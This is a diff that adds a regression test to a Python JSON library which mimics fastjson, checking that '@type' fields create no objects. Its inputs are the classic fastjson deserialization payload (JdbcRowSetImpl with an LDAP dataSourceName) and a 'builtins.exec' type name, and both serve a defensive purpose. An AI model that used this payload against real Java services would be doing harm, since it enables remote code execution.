@@ -62,6 +62,21 @@ def test_nesting_without_end_is_a_value_error() -> None:
         loads("{0:" * 5000)
 
 
+def test_a_type_in_json_makes_no_object() -> None:
+    """fastjson made objects of the class that a text names, which ran code of the sender's choice."""
+    text = (
+        b'{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://h/x",0:{"@type":"java.lang.AutoCloseable"}}'
+    )
+    assert loads(text) == {
+        "@type": "com.sun.rowset.JdbcRowSetImpl",
+        "dataSourceName": "ldap://h/x",
+        "0": {"@type": "java.lang.AutoCloseable"},
+    }
+    found = decode_json(b'{"@type":"builtins.exec","topicName":"T","readQueueNums":3}', TopicConfig)
+    assert type(found) is TopicConfig
+    assert found == TopicConfig(topic_name="T", read_queue_nums=3)
+
+
 def test_maps_keyed_by_queues_are_written_as_fastjson_does() -> None:
     queue = MessageQueue(topic="T", broker_name="b", queue_id=0)
     assert dumps_object_keys([(queue, 7)]) == b'{{"topic":"T","brokerName":"b","queueId":0}:7}'
